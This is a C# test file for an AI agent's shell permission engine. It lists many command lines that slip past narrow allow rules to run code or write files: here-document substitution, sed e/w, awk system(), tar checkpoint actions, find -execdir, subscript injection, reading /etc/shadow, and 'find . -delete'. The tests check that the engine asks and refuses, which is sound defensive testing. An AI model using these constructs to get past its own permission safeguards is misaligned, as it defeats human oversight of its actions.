using Wright.Core.Approvals;
using System.Diagnostics;
using Wright.Permissions;
using Wright.Permissions.Rules;
using Wright.Permissions.Shell;

namespace Wright.Tests.Safety;

public sealed partial class AdversarialTests
{
    // ── Group 10: allow-rule bypasses through here-documents, subscripts and option-level hazards ───────────────
    // Each line ran a command or wrote a file under a narrow allow rule. Every case is first run for real with bash in
    // a scratch repository (proving it does what the attack says: the marker file appears), then asked of the engine
    // under the allow rules: it must ask, and a "no" refuses.

    private static readonly string[] NarrowRules =
    [
        "shell(git status *)", "shell(git grep *)", "shell(git log *)", "shell(git diff *)", "shell(git show *)", "shell(sed *)", "shell(test *)", "shell('[' *)",
        "shell('[[' *)", "shell(printf *)", "shell(read *)", "shell(echo *)", "shell(cat *)", "shell(sort *)", "shell(tar *)", "shell(rg *)", "shell(awk *)",
        "shell(find *)", "shell(true)", "shell(ls *)", "shell(node *)",
    ];

    private PermissionEngine NarrowlyAllowed(IApprovalPrompt? prompt) =>
        new(PermissionMode.Ask, _ws.Rules([.. NarrowRules.Select(r => (RuleEffect.Allow, r))]), _ws.Workspace, prompt, workspaceTrusted: true);

    [Theory]
    [InlineData("git status <<EOF\n$(touch PWNED)\nEOF", "a here-document's command substitution")]
    [InlineData("cat <<EOF\n`touch PWNED`\nEOF", "a here-document's backquotes")]
    [InlineData("cat <<-EOF\n\t${X:-$(touch PWNED)}\n\tEOF", "a here-document's default value")]
    [InlineData("cat <<A; cat <<B\nx\nA\n$(touch PWNED)\nB", "a second here-document on the line")]
    [InlineData("git grep -O'touch PWNED' needle", "git grep -O attached")]
    [InlineData("git grep --open-files-in-pager='touch PWNED' needle", "git grep --open-files-in-pager")]
    [InlineData("git grep --open-files='touch PWNED' needle", "git grep --open-files (unique prefix)")]
    [InlineData("sed -n '1e touch PWNED' notes.txt", "sed 1e")]
    [InlineData("sed -n '$e touch PWNED' notes.txt", "sed $e")]
    [InlineData("sed -n '/note/e touch PWNED' notes.txt", "sed /re/e")]
    [InlineData("sed 's/.*/touch PWNED/e' notes.txt", "sed s///e")]
    [InlineData("sed -n 's/note/x/w PWNED' notes.txt", "sed s///w")]
    [InlineData("sed -n 'w PWNED' notes.txt", "sed w")]
    [InlineData("sed -ne '1{' -e 'e touch PWNED' -e '}' notes.txt", "sed -e scripts in a block")]
    [InlineData("sed --expression='1e touch PWNED' notes.txt", "sed --expression=")]
    [InlineData("sed --expr '1e touch PWNED' notes.txt", "sed --expr (unique prefix)")]
    [InlineData("test -v 'a[$(touch PWNED)]'", "test -v with a subscript")]
    [InlineData("[ -v 'a[$(touch PWNED)]' ]", "[ -v with a subscript")]
    [InlineData("[[ -v 'a[$(touch PWNED)]' ]]", "[[ -v with a subscript")]
    [InlineData("[[ 'a[$(touch PWNED)]' -eq 0 ]]", "[[ arithmetic on a subscript")]
    [InlineData("printf -v 'a[$(touch PWNED)]' x", "printf -v with a subscript")]
    [InlineData("read 'a[$(touch PWNED)]' < notes.txt", "read into a subscript")]
    [InlineData("git log --output=PWNED -1", "git log --output")]
    [InlineData("git diff --output=PWNED HEAD", "git diff --output")]
    [InlineData("git show --output=PWNED", "git show --output")]
    [InlineData("sort -o PWNED notes.txt", "sort -o")]
    [InlineData("sort -oPWNED notes.txt", "sort -o attached")]
    [InlineData("sort -ro PWNED notes.txt", "sort -o in a cluster")]
    [InlineData("sort --out=PWNED notes.txt", "sort --out (unique prefix)")]
    [InlineData("sort --output PWNED notes.txt", "sort --output")]
    [InlineData("awk 'BEGIN { print \"x\" > \"PWNED\" }'", "awk print > file")]
    [InlineData("awk 'BEGIN { system(\"touch PWNED\") }'", "awk system")]
    [InlineData("awk '{ print | \"sh\" }' <<< 'touch PWNED'", "awk print | command")]
    [InlineData("awk 'BEGIN { while ((\"touch PWNED\" | getline l) > 0) print l }'", "awk command | getline")]
    [InlineData("find . -maxdepth 0 -fprint PWNED", "find -fprint")]
    [InlineData("find notes.txt -execdir touch PWNED \\;", "find -execdir")]
    [InlineData("tar -cf /dev/null notes.txt --checkpoint=1 --checkpoint-action=exec='touch PWNED'", "tar --checkpoint-action")]
    [InlineData("tar -cf a.tar notes.txt && tar -xf a.tar --to-command='touch PWNED'", "tar --to-command")]
    [InlineData("git log {--output=PWNED,-1}", "brace expansion into an option")]
    [InlineData("git log --{output=PWNED,max-count=1}", "brace expansion after a dash")]
    public async Task Allow_rule_bypasses_run_for_real_and_are_asked_for(string line, string technique)
    {
        // The premise: bash really does it.
        var scratch = Path.Combine(_ws.Root, "scratch");
        Scratch(scratch);
        Bash(line, scratch);
        Assert.True(File.Exists(Path.Combine(scratch, "PWNED")), $"{technique}: the construct did not run under bash");

        // The engine: the allow rules name the program, yet this line asks, and "no" refuses.
        var prompt = new RecordingPrompt(ApprovalAnswer.No());
        var decision = await NarrowlyAllowed(prompt).ApproveAsync(SafetyWorkspace.Call("shell", Command(line)), Shell, TestContext.Current.CancellationToken);

        Assert.False(decision.Allowed, technique);
        var asked = Assert.Single(prompt.Requests);
        Assert.False(asked.MayRemember, technique);
        Assert.False(File.Exists(Path.Combine(_ws.Workspace, "PWNED")));
    }

    [Theory]
    [InlineData("git grep -O needle")]
    [InlineData("git -c core.pager=id log")]
    [InlineData("git -C /tmp log")]
    [InlineData("git --git-dir=/tmp/evil log")]
    [InlineData("git --work-tree=/ status")]
    [InlineData("git --config-env=core.pager=EVIL log")]
    [InlineData("git --exec-path=/tmp/evil status")]
    [InlineData("git log --ext-diff -p")]
    [InlineData("git diff --textconv")]
    [InlineData("git log --help")]
    [InlineData("git diff --ext")]
    [InlineData("git log --out=x -1")]
    [InlineData("sort --compress-program=sh -S 1 notes.txt")]
    [InlineData("sort --compress=sh notes.txt")]
    [InlineData("tar --use-compress-program=sh -xf a.tar")]
    [InlineData("tar --use-comp=sh -xf a.tar")]
    [InlineData("tar -I sh -xf a.tar")]
    [InlineData("tar -xIsh -f a.tar")]
    [InlineData("tar xIf sh a.tar")]
    [InlineData("tar --info-script=./x -cf a.tar .")]
    [InlineData("tar -F ./x -cf a.tar .")]
    [InlineData("tar --rsh-command=./x -cf host:a.tar .")]
    [InlineData("rg --pre=sh needle")]
    [InlineData("rg --pre sh needle")]
    [InlineData("rg -z needle")]
    [InlineData("rg -iz needle")]
    [InlineData("rg --search-zip needle")]
    [InlineData("rg --hostname-bin=./x needle")]
    [InlineData("rg needle *")]
    [InlineData("sed -f script.sed notes.txt")]
    [InlineData("sed -i s/a/b/ notes.txt")]
    [InlineData("sed -ni.bak p notes.txt")]
    [InlineData("sed --in-place=.bak s/a/b/ notes.txt")]
    [InlineData("sed '1r /etc/shadow' notes.txt")]
    [InlineData("sed 'W out' notes.txt")]
    [InlineData("sed 's/a/b/gew out' notes.txt")]
    [InlineData("sed '1!{e id\n}' notes.txt")]
    [InlineData("sed '1~2e id' notes.txt")]
    [InlineData("sed '0,/x/e id' notes.txt")]
    [InlineData("sed '\\,x,e id' notes.txt")]
    [InlineData("sed 'k' notes.txt")]
    [InlineData("sed n*.txt")]
    [InlineData("awk -f prog.awk notes.txt")]
    [InlineData("awk -e 'BEGIN{system(\"id\")}'")]
    [InlineData("awk --source='BEGIN{system(\"id\")}'")]
    [InlineData("awk '@load \"filefuncs\"; BEGIN{}'")]
    [InlineData("awk -l filefuncs 'BEGIN{}'")]
    [InlineData("awk 'function f(c) { } BEGIN { g = \"sys\" \"tem\"; @g(\"id\") }'")]
    [InlineData("tar -cf evil.example:a.tar notes.txt")]
    [InlineData("awk --assign x=1 'BEGIN{system(\"id\")}'")]
    [InlineData("node --eval=require('child_process').execSync('id')")]
    [InlineData("awk '{ printf \"%s\", $0 >> \"out\" }' notes.txt")]
    [InlineData("awk '{ print $0 |& \"sh\" }' notes.txt")]
    [InlineData("find . -fprintf out '%p'")]
    [InlineData("find . -fls out")]
    [InlineData("find . -okdir id \\;")]
    [InlineData("find . -delete")]
    [InlineData("find * -name x")]
    [InlineData("echo $((x))")]
    [InlineData("(( a[$(id)] ))")]
    [InlineData("for ((i=0; i<x; i++)); do true; done")]
    [InlineData("echo $[a[$(id)]]")]
    [InlineData("let 'a[$(id)]'")]
    [InlineData("[[ $x -eq 1 ]]")]
    [InlineData("[[ 1 -eq 1 && 'a[$(id)]' -ne 0 ]]")]
    [InlineData("read -a 'arr[$(id)]' < notes.txt")]
    [InlineData("mapfile -C 'touch x' -c 1 lines < notes.txt")]
    [InlineData("compgen -C 'touch x' a")]
    [InlineData("less notes.txt")]
    [InlineData("man git")]
    [InlineData("vim -c '!id' notes.txt")]
    [InlineData("cat <<EOF\n$(id)")]
    public async Task Option_level_hazards_ask_under_allow_rules(string line)
    {
        var prompt = new RecordingPrompt(ApprovalAnswer.No());

        var decision = await NarrowlyAllowed(prompt).ApproveAsync(SafetyWorkspace.Call("shell", Command(line)), Shell, TestContext.Current.CancellationToken);

        Assert.False(decision.Allowed, line);
        Assert.False(Assert.Single(prompt.Requests).MayRemember, line);
    }

    [Theory]
    [InlineData("cat <<'EOF'\n$(touch PWNED)\nEOF")]
    [InlineData("cat <<\"EOF\"\n`touch PWNED`\nEOF")]
    [InlineData("cat <<\\EOF\n$(touch PWNED)\nEOF")]
    [InlineData("cat <<EOF\nplain $HOME text\nEOF")]
    [InlineData("git status --short")]
    [InlineData("git log --oneline -5")]
    [InlineData("git log --output-indicator-new=+ -1")]
    [InlineData("git grep -n needle")]
    [InlineData("git grep -e -O needle")]
    [InlineData("git diff --stat HEAD")]
    [InlineData("sed -n '1,5p' notes.txt")]
    [InlineData("sed -n 10p notes.txt")]
    [InlineData("sed -E 's/(a|b)+/x/g; /^$/d' notes.txt")]
    [InlineData("sed -e 's/a/b/' -e 's/c/d/2' notes.txt")]
    [InlineData("sed '/start/,/end/{s/x/y/;p}' notes.txt")]
    [InlineData("sed 'y/abc/xyz/' notes.txt")]
    [InlineData("sed '1i header' notes.txt")]
    [InlineData("sort -k2 -t, -n notes.txt")]
    [InlineData("sort -u -r notes.txt")]
    [InlineData("awk '{print $1}' notes.txt")]
    [InlineData("awk -F, '$3 > 100 { n++ } END { print n }' notes.txt")]
    [InlineData("awk '/a|b/ { print }' notes.txt")]
    [InlineData("awk 'NR % 2 == 0 || /x/' notes.txt")]
    [InlineData("awk -v x=1 '{ print ($1 > x) }' notes.txt")]
    [InlineData("tar -tzf a.tgz")]
    [InlineData("tar -xzf a.tgz -C out")]
    [InlineData("tar czf a.tgz src")]
    [InlineData("rg -n needle src")]
    [InlineData("rg -g '*.cs' needle")]
    [InlineData("find . -name '*.cs' -type f")]
    [InlineData("find src -name '*.cs'")]
    [InlineData("test -f notes.txt")]
    [InlineData("[ -d src ]")]
    [InlineData("[[ -f notes.txt && 1 -eq 1 ]]")]
    [InlineData("[[ $name == a* ]]")]
    [InlineData("printf '%s\\n' a b")]
    [InlineData("echo $((1 + 2 * 3))")]
    [InlineData("ls src/*.cs")]
    [InlineData("cat src/{a,b}.cs")]
    public async Task The_same_rules_allow_plain_uses_of_those_programs(string line)
    {
        var prompt = new RecordingPrompt(ApprovalAnswer.No());

        var decision = await NarrowlyAllowed(prompt).ApproveAsync(SafetyWorkspace.Call("shell", Command(line)), Shell, TestContext.Current.CancellationToken);

        Assert.True(decision.Allowed, $"{line}: {string.Join("; ", prompt.Requests.Select(r => r.Reason))}");
        Assert.Empty(prompt.Requests);
    }

    [Theory]
    [InlineData("sed -i 's/a/b/' notes.txt")]
    [InlineData("sort -o sorted.txt notes.txt")]
    [InlineData("git log --output=log.txt -1")]
    [InlineData("rg needle *")]
    public async Task File_writing_options_only_matter_to_rules_not_to_the_sandboxed_auto_mode(string line)
    {
        var engine = new PermissionEngine(PermissionMode.Auto, _ws.Rules(), _ws.Workspace, prompt: null, sandboxed: true, workspaceTrusted: true);

        Assert.True((await engine.ApproveAsync(SafetyWorkspace.Call("shell", Command(line)), Shell, TestContext.Current.CancellationToken)).Allowed);
        Assert.NotEmpty(CommandPolicy.Assess(line, _ws.Workspace, _ws.Workspace).RuleReasons);
    }

    /// <summary>A git repository with a tracked notes.txt that contains "needle" and "note".</summary>
    private static void Scratch(string dir)
    {
        if (Directory.Exists(dir))
            Directory.Delete(dir, recursive: true);
        Directory.CreateDirectory(dir);
        File.WriteAllText(Path.Combine(dir, "notes.txt"), "needle note\n");
        Bash("git init -q . && git -c user.email=t@t -c user.name=t add notes.txt && git -c user.email=t@t -c user.name=t commit -qm init && echo 'needle more' >> notes.txt", dir);
    }

    private static void Bash(string line, string dir)
    {
        var psi = new ProcessStartInfo("/bin/bash") { WorkingDirectory = dir, RedirectStandardOutput = true, RedirectStandardError = true, RedirectStandardInput = true };
        psi.ArgumentList.Add("-c");
        psi.ArgumentList.Add(line);
        psi.Environment["GIT_PAGER"] = "cat";
        psi.Environment["PAGER"] = "cat";
        psi.Environment["HOME"] = dir;
        using var process = Process.Start(psi)!;
        process.StandardInput.Close();
        _ = process.StandardOutput.ReadToEndAsync();
        _ = process.StandardError.ReadToEndAsync();
        if (!process.WaitForExit(20_000))
        {
            process.Kill(entireProcessTree: true);
            Assert.Fail($"bash did not finish: {line}");
        }
    }
}
